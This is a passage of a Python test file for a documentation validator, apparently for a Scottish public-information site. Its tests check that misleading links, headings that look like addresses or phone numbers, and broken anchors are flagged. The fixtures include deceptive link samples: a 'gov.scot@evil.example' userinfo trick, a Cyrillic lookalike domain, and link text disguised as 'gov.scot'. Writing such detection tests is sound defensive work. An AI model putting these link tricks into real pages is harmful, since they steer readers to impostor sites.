                           "## Sign in at www&#46;nhs&#46;scot&#47;login\n\n## Ring 0800 123 4567 about cookies\n"})
    result = run_cli(project, "validate")
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-3000:]
    said = result.stderr.splitlines()
    for line, (_, says) in zip(where, ROUND_25):
        assert any(l.startswith(f"{A}:{line}:") and says in l for l in said), (line, says, result.stderr)
    assert any(l.startswith("deeper-dives/summary.md:3:") and "[link-address]" in l for l in said), result.stderr
    assert any(l.startswith("docs/privacy.md:3:") and "the link's text shows `gov.scot`" in l for l in said), said
    # Thirty-first round: a heading written with character references, placed at its own line; a phone number.
    assert any(l.startswith("docs/privacy.md:7:") and "the heading reads as the address `nhs.scot`" in l for l in said), said
    assert any(l.startswith("docs/privacy.md:9:") and "the heading shows the phone number `0800 123 4567`" in l
               for l in said), said
    # A vocabulary's description is a page's lead and its link preview (twenty-sixth round).
    (project / "vocabulary" / "topics.yml").write_text(topics, encoding="utf-8")
    said = run_cli(project, "validate").stderr.splitlines()
    assert any(l.startswith("vocabulary/topics.yml:") and "[link-address]" in l and "evil.example" in l
               for l in said), said


def test_an_editors_page_is_read_by_validate_as_the_build_reads_it(tmp_path):
    """Thirty-fourth round: validate read an editor's page only when it held a link, a tag or a reference, so
    headings that read as addresses or numbers passed it and stopped the build; addresses written as text, refused
    in a resource's body, were published from an editor's page."""
    from resource_library.validate import check_project
    page = ("# Visit www.evil.example/login\n\nSome text.\n\n## Call 0131 623 4300 for help\n\n"
            "More: https://www.gov.scot@evil.example/login and www.g\u043ev.scot\n")
    project = make_project(tmp_path / "p", content={"docs/topics/team-notes.md": page})
    found = sorted((p.line, p.rule) for p in check_project(project)[1] if p.path == "docs/topics/team-notes.md")
    assert found == [(1, "misleading-link"), (5, "misleading-link"), (7, "link-address"), (7, "link-address")], found


def test_an_editors_pages_links_are_read_by_validate_as_mkdocs_reads_them_in_the_build(tmp_path):
    """Thirty-fifth round: a link from an editor's page to no page, or to no heading of its page, passed validate
    and stopped the build (MkDocs, strict), which named `privacy.md` with no line."""
    from resource_library.validate import check_project
    privacy = (REPO / "docs" / "privacy.md").read_text(encoding="utf-8")
    line = privacy.split("\n").index("## Cookies") + 1
    added = ("Read [our statement](accesibility.md), [how to contribute](contribute.md#no-such-part) "
             "and [the page](contribute.md).\n\n")
    project = make_project(tmp_path / "p", content={"docs/privacy.md": privacy.replace("## Cookies", added + "## Cookies",
                                                                                         1)})
    found = [(p.path, p.line, p.col, p.rule) for p in check_project(project)[1] if p.path == "docs/privacy.md"]
    assert found == [("docs/privacy.md", line, 22, "broken-link"), ("docs/privacy.md", line, 60, "broken-anchor")], found


def test_a_links_text_running_on_into_emphasis_or_code_is_read_by_validate_at_its_line(tmp_path):
    """Thirty-seventh round: `**[gov](https://e1.example/)**.scot` passed validate and stopped the build, which
    placed it at the first line holding the same address, an honest one."""
    from resource_library.validate import check_project
    body = ("See [the supplier's page](https://e1.example/) for prices.\n\nAnd **[gov](https://e1.example/)**.scot "
            "for advice.\n\nOr [www.nhs24](https://e2.example/)<code>.scot</code> too.\n\n"
            "Honest *[the guidance](https://www.gov.scot/x)* here.\n")
    project = make_project(tmp_path / "p", content={A: GOOD + "\n" + body})
    first = GOOD.count("\n") + 2
    found = sorted((p.line, p.message.split(",")[0]) for p in check_project(project)[1] if p.rule == "misleading-link")
    assert found == [(first + 2, "the link's text shows `gov.scot`"),
                     (first + 4, "the link's text shows `nhs24.scot`")], found
